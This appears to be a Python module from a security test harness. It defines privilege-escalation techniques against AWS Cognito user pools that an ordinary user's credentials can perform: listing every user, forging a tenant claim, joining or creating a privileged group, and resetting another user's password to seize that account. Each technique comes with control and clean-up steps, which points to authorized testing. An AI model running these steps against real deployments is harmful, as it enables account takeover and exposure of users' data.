"""Administering the user pool with the AWS credentials of a user, who should not be able to."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from harness.attacks.become.leavers import refreshing
from harness.attacks.become.newcomers import (
    admitted,
    attribute_list,
    call,
    forget_newcomer,
    like_the_caller,
    newcomer_of,
    on_newcomer,
    signing_in,
    used,
)
from harness.attacks.obtained import ByOperator
from harness.attacks.technique import Callers, ControlKind, Feature, LeakKind, Severity, Technique, Victim
from harness.blueprints.contract import Effect
from harness.secret import Secret

if TYPE_CHECKING:
    from collections.abc import Mapping

    from harness.attacks.aim import Aim
    from harness.attacks.technique import Step
    from harness.targets.api import ApiRequest

_ACTIONS = "https://docs.aws.amazon.com/cognito/latest/developerguide/security_iam_service-with-iam.html"
_OTHER_PASSWORD = Secret("Taken-over-2-isolation")


def _on_oneself(aim: Aim, operation: str, **params: object) -> ApiRequest:
    return call(operation, UserPoolId=aim.deployment.user_pool, Username=aim.caller.username, **params)


def _writing(aim: Aim, attributes: Mapping[str, str]) -> ApiRequest:
    return _on_oneself(aim, "AdminUpdateUserAttributes", UserAttributes=attribute_list(attributes))


def _refreshed(aim: Aim, choice: Mapping[str, str] | None = None) -> tuple[Step, ...]:
    return (lambda _: refreshing(aim, aim.refresh_token), *admitted(aim, choice))


def _as_staff(aim: Aim) -> tuple[Step, ...]:
    return _refreshed(aim, {"CustomRoleArn": aim.privileged_role})


def _joining(aim: Aim, group: str) -> ApiRequest:
    return _on_oneself(aim, "AdminAddUserToGroup", GroupName=group)


def _leaving(aim: Aim) -> tuple[ApiRequest, ...]:
    groups = (group for group in aim.privileged_groups if group not in aim.own_groups)
    return tuple(_on_oneself(aim, "AdminRemoveUserFromGroup", GroupName=group) for group in groups)


def _own_group(aim: Aim) -> str:
    return f"of.{aim.caller.username}"


def _making_a_group(aim: Aim, role: str) -> ApiRequest:
    return call(
        "CreateGroup", UserPoolId=aim.deployment.user_pool, GroupName=_own_group(aim), RoleArn=role, Precedence=0
    )


def _deleting_the_group(aim: Aim) -> tuple[ApiRequest, ...]:
    # Only an empty group can be deleted.
    left = _on_oneself(aim, "AdminRemoveUserFromGroup", GroupName=_own_group(aim))
    return (left, call("DeleteGroup", UserPoolId=aim.deployment.user_pool, GroupName=_own_group(aim)))


def _as_somebody_else(aim: Aim, taking: Step) -> tuple[Step, ...]:
    """Return the steps by which a newcomer's password is set, and the newcomer's session taken with it."""
    return (
        *like_the_caller(aim),
        taking,
        lambda _: signing_in(aim, newcomer_of(aim), _OTHER_PASSWORD),
        *admitted(aim, aim.role_choice),
    )


def _setting_a_password(aim: Aim) -> ApiRequest:
    return on_newcomer(aim, "AdminSetUserPassword", Password=_OTHER_PASSWORD.reveal(), Permanent=True)


def _set_back(aim: Aim) -> tuple[ApiRequest, ...]:
    params = {"UserPoolId": aim.deployment.user_pool, "Username": aim.caller.username}
    added = [name for name in aim.victims_attributes if name not in aim.own_attributes]
    deleting = [call("AdminDeleteUserAttributes", **params, UserAttributeNames=added)] if added else []
    return (*deleting, _writing(aim, aim.own_attributes)) if aim.own_attributes else tuple(deleting)


_ADMINISTER = partial(
    Technique,
    plane="user-pool",
    effect=Effect.SESSION,
    severity=Severity.BLOCKER,
    documentation=_ACTIONS,
    cwe=("CWE-269",),
    catalogue=("up-admin-apis-on-authenticated-role",),
    callers=Callers.MEMBERS,
    victims=Callers.OWNING_MEMBERS,
    victim=Victim.NOBODY,
)

TECHNIQUES = (
    _ADMINISTER(
        id="user-pool.read.list-users",
        title="ListUsers of the whole user pool with a user's AWS credentials",
        effect=Effect.READ,
        operation="ListUsers",
        actions=("cognito-idp:ListUsers",),
        cwe=("CWE-200",),
        requires=frozenset({Feature.TOKEN_SESSIONS}),
        control=ControlKind.WITNESS,
        operator_steps=lambda aim: (call("ListUsers", UserPoolId=aim.deployment.user_pool),),
        allowed_means=LeakKind.ORACLE,
        steps=lambda aim: (call("ListUsers", UserPoolId=aim.deployment.user_pool),),
    ),
    _ADMINISTER(
        id="user-pool.session.administered-claim",
        title="AdminUpdateUserAttributes of one's own tenant claim with a user's AWS credentials",
        operation="AdminUpdateUserAttributes",
        actions=("cognito-idp:AdminUpdateUserAttributes", "dynamodb:GetItem", "s3:GetObject"),
        requires=frozenset({Feature.TOKEN_SESSIONS, Feature.TENANT_CLAIM}),
        victim=Victim.SOMEBODY,
        first_step_decides=True,
        steps=lambda aim: (_writing(aim, aim.victims_attributes), *_refreshed(aim), used(aim)),
        control_steps=lambda aim: (ByOperator(_writing(aim, aim.own_attributes)), *_refreshed(aim)),
        clean_up=_set_back,
    ),
    _ADMINISTER(
        id="user-pool.session.joined-group",
        title="AdminAddUserToGroup of oneself to the staff's group with a user's AWS credentials",
        operation="AdminAddUserToGroup",
        actions=("cognito-idp:AdminAddUserToGroup",),
        catalogue=("up-admin-apis-on-authenticated-role", "up-admin-group-self-service"),
        requires=frozenset({Feature.TOKEN_ROLES, Feature.PRIVILEGED_ROLE}),
        first_step_decides=True,
        steps=lambda aim: (_joining(aim, aim.privileged_groups[0]), *_as_staff(aim)),
        control_steps=lambda aim: (ByOperator(_joining(aim, aim.privileged_groups[0])), *_as_staff(aim)),
        clean_up=_leaving,
    ),
    _ADMINISTER(
        id="user-pool.session.group-with-a-role",
        title="CreateGroup with the staff's role and joining it, with a user's AWS credentials",
        operation="CreateGroup",
        actions=("cognito-idp:CreateGroup", "cognito-idp:AdminAddUserToGroup", "iam:PassRole"),
        catalogue=("up-group-role-passrole-drift",),
        requires=frozenset({Feature.TOKEN_ROLES, Feature.PRIVILEGED_ROLE}),
        first_step_decides=True,
        steps=lambda aim: (
            _making_a_group(aim, aim.privileged_role),
            _joining(aim, _own_group(aim)),
            *_as_staff(aim),
        ),
        control_steps=lambda aim: (
            ByOperator(_making_a_group(aim, aim.privileged_role)),
            ByOperator(_joining(aim, _own_group(aim))),
            *_as_staff(aim),
        ),
        clean_up=_deleting_the_group,
    ),
    _ADMINISTER(
        id="user-pool.session.password-set",
        title="AdminSetUserPassword of another user with a user's AWS credentials",
        operation="AdminSetUserPassword",
        actions=("cognito-idp:AdminSetUserPassword",),
        requires=frozenset({Feature.ENHANCED_FLOW}),
        steps=lambda aim: _as_somebody_else(aim, _setting_a_password(aim)),
        control_steps=lambda aim: _as_somebody_else(aim, ByOperator(_setting_a_password(aim))),
        clean_up=forget_newcomer,
    ),
)
